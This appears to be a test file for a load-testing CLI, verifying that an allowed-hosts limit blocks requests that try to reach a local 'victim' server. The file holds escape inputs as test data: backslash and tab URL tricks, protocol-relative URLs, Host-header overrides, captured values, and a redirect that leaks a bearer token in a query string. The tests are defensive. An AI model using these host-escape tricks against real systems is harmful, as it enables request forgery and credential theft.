// The allowed-hosts limit holds where requests leave, through the built CLI: a target on 127.0.0.1
// and a "victim" on 127.0.0.2 that counts what reaches it. Each way out of the list that perf.yml or
// the target's own responses can take (a backslash or a tab that URL parsing turns into "//host", a
// template, a value captured from the target's response, a redirect) is run with
// `--allowed-hosts 127.0.0.1:P`: the victim receives nothing, and results.json counts the requests
// under `blocked-host` with the URL in the sample, its secret masked. What perf.yml shows literally is
// refused before the run (exit 2); what only a rendered value or a response reveals is blocked as
// it leaves.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { RunResult } from '../../src/results/types.js';
import { ensureBuilt } from '../support/built-bundle.js';
import { runCli, STACK_LINE } from '../support/run-cli.js';
import { startServer, type TestServer } from '../support/servers.js';

const API_TOKEN = 'tok-5b0e9c2d7a41f836';

let target: TestServer;
let victim: TestServer;
/** A second allowed host: a redirect to it is followed, to its own address. */
let neighbour: TestServer;
let dir: string;
let victimHost: string;

beforeAll(async () => {
  victim = await startServer((_req, res) => res.end('stolen'), { host: '127.0.0.2' });
  neighbour = await startServer((_req, res) => res.end('neighbour'), { host: '127.0.0.3' });
  victimHost = `127.0.0.2:${victim.port}`;
  // The preview app is the pull request's code: its answers point wherever it likes.
  target = await startServer((req, res) => {
    const url = req.url ?? '/';
    const token = String(req.headers.authorization ?? '').replace(/^Bearer /, '');
    if (url === '/next-slashes') return json(res, { next: `/${victimHost}/x` });
    if (url === '/next-backslash') return json(res, { next: `\\${victimHost}/x` });
    if (url === '/next-tab') return json(res, { next: `\t/${victimHost}/x` });
    if (url === '/away') {
      res.writeHead(302, { location: `http://${victimHost}/x?t=${token}` });
      return res.end();
    }
    if (url === '/next-door') {
      res.writeHead(302, { location: `${neighbour.url}/door` });
      return res.end();
    }
    res.end('ok');
  });
  dir = await mkdtemp(join(tmpdir(), 'perf-allowed-hosts-'));
  // A rebuild of dist/ can take minutes on a busy machine; it is paid here, not inside a test's time.
  ensureBuilt();
}, 600_000);

afterAll(async () => {
  await Promise.all([target?.close(), victim?.close(), neighbour?.close()]);
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
});

function json(res: import('node:http').ServerResponse, body: unknown): void {
  res.writeHead(200, { 'content-type': 'application/json' });
  res.end(JSON.stringify(body));
}

/** perf.yml with the given scenario steps (YAML lines), 2 s at 10 arrivals/s. */
async function writeConfig(name: string, steps: readonly string[], http: readonly string[] = []): Promise<string> {
  const file = `${name}.yml`;
  await writeFile(
    join(dir, file),
    [
      `name: ${name}`,
      `target: ${target.url}`,
      'http:',
      '  headers: { authorization: "Bearer ${API_TOKEN}" }',
      ...http.map((line) => `  ${line}`),
      'load:',
      '  phases:',
      '    - { name: steady, duration: 2s, rate: 10 }',
      'scenarios:',
      '  - name: escape',
      '    steps:',
      ...steps.map((line) => `      ${line}`),
      '',
    ].join('\n'),
  );
  return file;
}

function sum(counts: readonly number[] | undefined): number {
  return (counts ?? []).reduce((total, count) => total + count, 0);
}

async function runOutside(file: string, out: string, limited = true): Promise<{ code: number | null; stderr: string; result?: RunResult }> {
  const { cli } = ensureBuilt();
  const limit = limited ? ['--allowed-hosts', `127.0.0.1:${target.port},127.0.0.3:${neighbour.port}`] : [];
  const run = await runCli(cli, ['run', '-c', file, '--out', out, ...limit, '--seed', '7'], {
    cwd: dir,
    env: { API_TOKEN },
    timeoutMs: 60_000,
  });
  expect(run.timedOut).toBe(false);
  expect(run.stderr).not.toMatch(STACK_LINE);
  expect(run.stdout + run.stderr).not.toContain(API_TOKEN);
  let result: RunResult | undefined;
  try {
    result = JSON.parse(await readFile(join(dir, out, 'results.json'), 'utf8')) as RunResult;
  } catch {
    result = undefined;
  }
  return { code: run.code, stderr: run.stderr, ...(result === undefined ? {} : { result }) };
}

describe('perf.yml that shows the way out is refused before any request', () => {
  test.each([
    ['a backslash', (host: string) => `"/\\\\${host}/x"`],
    ['a tab', (host: string) => `"/\\t/${host}/x"`],
    ['an absolute URL', (host: string) => `"http://${host}/x"`],
    ['a protocol-relative URL', (host: string) => `"//${host}/x"`],
  ])('%s', async (label, url) => {
    const before = { victim: victim.requests(), target: target.requests() };
    const file = await writeConfig(`literal-${label.replace(/\W+/g, '-')}`, [`- { name: out, get: ${url(victimHost)} }`]);
    const run = await runOutside(file, `literal-${label.replace(/\W+/g, '-')}`);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('scenarios[0].steps[0] (out)');
    expect(run.result).toBeUndefined();
    expect(victim.requests()).toBe(before.victim);
    expect(target.requests()).toBe(before.target);
  }, 120_000);
});

describe('a Host header that would pick another site behind an allowed address', () => {
  test.each([
    ['in http.headers', '- { name: home, get: / }', true, 'http.headers.host'],
    ['on a step', '- { name: out, get: /x, headers: { Host: "victim.example" } }', false, 'scenarios[0].steps[0] (out): headers.Host'],
  ])('%s is refused before any request', async (label, step, inHttp, field) => {
    const before = { victim: victim.requests(), target: target.requests() };
    const name = `host-header-${label.replace(/\W+/g, '-')}`;
    const file = await writeConfig(name, [step]);
    if (inHttp) {
      const text = await readFile(join(dir, file), 'utf8');
      await writeFile(join(dir, file), text.replace('headers: { authorization: "Bearer ${API_TOKEN}" }', 'headers: { authorization: "Bearer ${API_TOKEN}", host: "victim.example" }'));
    }
    const run = await runOutside(file, name);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`${field}: a Host header would send requests to another site`);
    expect(run.result).toBeUndefined();
    expect(victim.requests()).toBe(before.victim);
    expect(target.requests()).toBe(before.target);
  }, 120_000);
});

describe('a way out that only shows once rendered or answered is blocked as the request leaves', () => {
  test('without --allowed-hosts the same template does reach the victim (the attack is real)', async () => {
    const before = victim.requests();
    const file = await writeConfig('unlimited', [`- { name: out, get: "/{{ random.pick('/${victimHost}/x') }}" }`]);
    const run = await runOutside(file, 'unlimited', false);
    expect(run.code).toBe(0);
    expect(victim.requests() - before).toBeGreaterThanOrEqual(15);
  }, 120_000);

  test.each([
    ['a template', [`- { name: out, get: "/{{ random.pick('/HOST/x') }}" }`], [], 'out'],
    ['a captured "/host" value', ['- { name: first, get: /next-slashes, capture: { next: "$.next" } }', '- { name: out, get: "/{{ next }}" }'], [], 'out'],
    ['a captured "\\host" value', ['- { name: first, get: /next-backslash, capture: { next: "$.next" } }', '- { name: out, get: "/{{ next }}" }'], [], 'out'],
    ['a captured tab', ['- { name: first, get: /next-tab, capture: { next: "$.next" } }', '- { name: out, get: "/{{ next }}" }'], [], 'out'],
    ['a redirect', ['- { name: out, get: /away }'], ['redirects: 3'], 'out'],
  ])('%s', async (label, steps, http, endpoint) => {
    const before = victim.requests();
    const name = `sent-${label.replace(/\W+/g, '-')}`;
    const file = await writeConfig(
      name,
      steps.map((step) => step.replace('HOST', victimHost)),
      http,
    );
    const run = await runOutside(file, name);
    expect(run.code).toBe(0);
    expect(victim.requests()).toBe(before);
    const result = run.result!;
    const series = result.endpoints.find((candidate) => candidate.name === endpoint)!;
    const blocked = sum(series.errors['blocked-host']);
    // Every request of the step was refused, and there were some: 2 s at 10 arrivals/s.
    expect(blocked).toBeGreaterThanOrEqual(15);
    expect(blocked).toBe(sum(series.requests));
    expect(sum(result.total.errors['blocked-host'])).toBe(blocked);
    const sample = series.errorSamples['blocked-host']!;
    expect(sample).toContain(`http://${victimHost}/x`);
    expect(sample).toContain('not an allowed host');
    expect(run.stderr).toContain(`${blocked} requests not sent`);
    const written = await readFile(join(dir, name, 'results.json'), 'utf8');
    expect(written).not.toContain(API_TOKEN);
    // The redirect carried the token the target was sent; the sample keeps the URL, masked.
    if (label === 'a redirect') expect(sample).toContain('/x?t=***');
  }, 120_000);

  test('a redirect to another allowed host is followed to that host', async () => {
    const before = { victim: victim.requests(), neighbour: neighbour.requests() };
    const file = await writeConfig('next-door', ['- { name: door, get: /next-door, expect: { status: 200, contains: neighbour } }'], ['redirects: 3']);
    const run = await runOutside(file, 'next-door');
    expect(run.code).toBe(0);
    const series = run.result!.endpoints.find((candidate) => candidate.name === 'door')!;
    expect(series.errors).toEqual({});
    expect(neighbour.requests() - before.neighbour).toBe(sum(series.requests));
    expect(sum(series.requests)).toBeGreaterThanOrEqual(15);
    expect(victim.requests()).toBe(before.victim);
  }, 120_000);
});
